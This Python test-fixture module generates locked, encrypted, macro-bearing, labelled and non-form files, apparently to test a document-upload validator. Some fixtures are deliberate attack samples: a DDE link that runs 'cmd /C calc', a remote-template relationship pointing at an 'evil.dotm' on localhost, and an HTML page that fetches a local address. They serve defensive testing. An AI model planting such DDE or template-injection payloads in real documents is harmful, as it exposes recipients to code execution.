"""Files that another program has locked, labelled or filled with more than a form, and files that are none."""

from __future__ import annotations

import gzip
import io
import zipfile

import pikepdf

from .packing import Good, Made, packed, with_part

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _ole(*streams: str) -> Made:
    """An OLE container as Office makes it: a header, and a directory that names its streams."""
    header = OLE + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0\x06\0" + b"\0" * 478
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + b"\0" * 64 for name in streams)
    return lambda good: header + directory + b"\x5a" * 20_000


def _locked_zip(good: Good) -> bytes:
    """A container whose parts say that they are encrypted."""
    data = bytearray(good["xlsx"])
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


def _locked_ods(good: Good) -> bytes:
    """A spreadsheet with a password: LibreOffice says so in the list of parts, and each part is noise."""
    entry = (
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data '
        b'manifest:checksum-type="x" manifest:checksum="y"/></manifest:file-entry></manifest:manifest>'
    )
    noise = with_part(good["ods"], "content.xml", lambda part: bytes(range(256)) * 40)
    return with_part(noise, "META-INF/manifest.xml", lambda part: part.replace(b"</manifest:manifest>", entry))


def _locked_pdf(good: Good) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(good["pdf"])) as opened:
        opened.save(out, encryption=pikepdf.Encryption(user="secret", owner="other", R=6), deterministic_id=False)
    return out.getvalue()


def _more(kind: str, **found: bytes) -> Made:
    """Add parts to a container; in their names `__` stands for a slash and `_dot_` for a full stop."""

    def make(good: Good) -> bytes:
        data = good[kind]
        for name, part in found.items():
            data = with_part(data, name.replace("__", "/").replace("_dot_", "."), lambda _, part=part: part)
        return data

    return make


LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
    b'ddeTopic="/C calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink></externalLink>'
)
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)
LABEL = (
    b'<clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"><clbl:label '
    b'id="{1}" enabled="1" method="Privileged" siteId="{2}" contentBits="0" removed="0"/></clbl:labelList>'
)

OLD = "This file is encrypted, or it is in the old format of Excel or Word"
NONE = "This is not a form that can be read"

FILES: dict[str, tuple[Made, str]] = {
    "password.xlsx": (_ole("Root Entry", "EncryptionInfo", "EncryptedPackage"), OLD),
    "password.docx": (_ole("Root Entry", "EncryptionInfo", "EncryptedPackage"), OLD),
    "label-that-encrypts.xlsx": (
        _ole("Root Entry", "\x06DataSpaces", "DRMEncryptedDataSpace", "DRMEncryptedTransform", "EncryptedPackage"),
        OLD,
    ),
    "old.xls": (_ole("Root Entry", "Workbook"), OLD),
    "locked-parts.xlsx": (_locked_zip, "The file is locked with a password"),
    "locked.ods": (_locked_ods, "The file is locked with a password"),
    "locked.pdf": (_locked_pdf, "This PDF"),
    "label-only.xlsx": (_more("xlsx", docMetadata__LabelInfo_dot_xml=LABEL), ""),
    "label-only.docx": (_more("docx", docMetadata__LabelInfo_dot_xml=LABEL), ""),
    "macros.xlsm": (_more("xlsx", xl__vbaProject_dot_bin=OLE + b"Attribut\0e VB_Name"), ""),
    "macros.docm": (_more("docx", word__vbaProject_dot_bin=OLE + b"Attribut\0e VB_Name"), ""),
    "macros.ods": (_more("ods", Basic__Standard__Module1_dot_xml=b"<script/>"), ""),
    "external-link.xlsx": (_more("xlsx", xl__externalLinks__externalLink1_dot_xml=LINK), ""),
    "remote-template.docx": (_more("docx", word___rels__settings_dot_xml_dot_rels=TEMPLATE), ""),
    "embedded.docx": (_more("docx", word__embeddings__oleObject1_dot_bin=OLE + b"\0" * 9_000), ""),
    "packed.zip": (lambda good: packed({"form.xlsx": good["xlsx"]}), "This is a ZIP file that holds no form"),
    "packed.gz": (lambda good: gzip.compress(good["xlsx"], mtime=0), NONE),
    "nothing.xlsx": (lambda good: b"", "The file is empty"),
    "no-parts.xlsx": (lambda good: _without_parts(), "This is a ZIP file that holds no form"),
    "picture.pdf": (lambda good: b"\x89PNG\r\n\x1a\n" + b"\0" * 500, NONE),
    "program.xlsx": (lambda good: b"MZ" + b"\x90" * 5_000, NONE),
    "letter.rtf": (lambda good: rb"{\rtf1\ansi Hello}", "This is a text document"),
    "mail.eml": (lambda good: b"From: a@example.org\nSubject: form\n\nSee attached.\n", NONE),
    "script.html": (
        lambda good: b"<!doctype html><script>fetch('http://127.0.0.1:9')</script>",
        "This web page is not",
    ),
}


def _without_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w"):
        pass
    return out.getvalue()
